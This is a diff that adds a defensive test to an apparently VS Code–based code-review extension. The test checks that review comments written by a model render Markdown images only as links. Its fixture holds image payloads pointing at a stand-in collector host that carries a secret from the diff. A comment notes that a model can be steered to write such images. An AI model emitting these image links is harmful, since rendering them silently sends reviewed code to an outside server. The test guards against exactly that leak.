@@ -14,6 +14,8 @@ import * as path from 'node:path';
 import { jsonIn, MAX_FINDINGS, readReviewFindings, type ReviewedFile } from '../../language-server/review/readReviewFindings';
 import { cutListing, hunkOfLines, hunksFromDiff, listing, renderListing } from '../../language-server/review/reviewListing';
 import { reviewUserMessage } from '../../language-server/review/reviewPrompts';
+import { reviewCommentBody } from '../../extension/review/reviewCommentBody';
+import { Marked } from 'marked';
 
 function git(cwd: string, ...args: string[]): string {
   return execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.com', '-c', 'core.hooksPath=/dev/null', ...args], {
@@ -149,6 +151,22 @@ describe('code review', () => {
     assert.equal(dropped, 5);
     assert.equal(findings[0].severity, 'security');
     assert.ok(findings.every((f) => f.title.length <= 160));
+  });
+
+  it('shows a finding\u2019s images as links, so a comment cannot send the reviewed code to a server just by being shown', () => {
+    // VS Code fetches the images of a comment's Markdown when the thread renders; the model can be steered to write one.
+    const collect = 'https://collect.example/?k=SECRET_FROM_THE_DIFF';
+    const comment = [`![inline](${collect})`, `See ![by reference][r] and ![shortcut].`, '', `[r]: ${collect}`, `[shortcut]: ${collect}`, '', 'Prefer `vec![1]` here.'].join('\n');
+    const answer = JSON.stringify({
+      findings: [{ file: 'src/calc.js', line: 4, severity: 'security', title: `Leak ![t](${collect})`, comment, fix: { startLine: 4, endLine: 4, code: 'const b = a / 2; // ![kept](x)\n' } }],
+    });
+    const { findings } = readReviewFindings(answer, [file()]);
+    const body = reviewCommentBody(findings[0]);
+    // VS Code renders comment Markdown with marked, as this does.
+    const html = new Marked({ gfm: true }).parse(body, { async: false });
+    assert.doesNotMatch(html, /<img/i);
+    assert.equal(html.match(/<a href="https:\/\/collect\.example\//g)?.length, 4, 'each image is still there, as a link the user may follow');
+    assert.ok(body.includes('const b = a / 2; // ![kept](x)'), 'the fix is shown exactly as it will be applied');
   });
 
   it('cuts a long listing to whole lines and says so', () => {
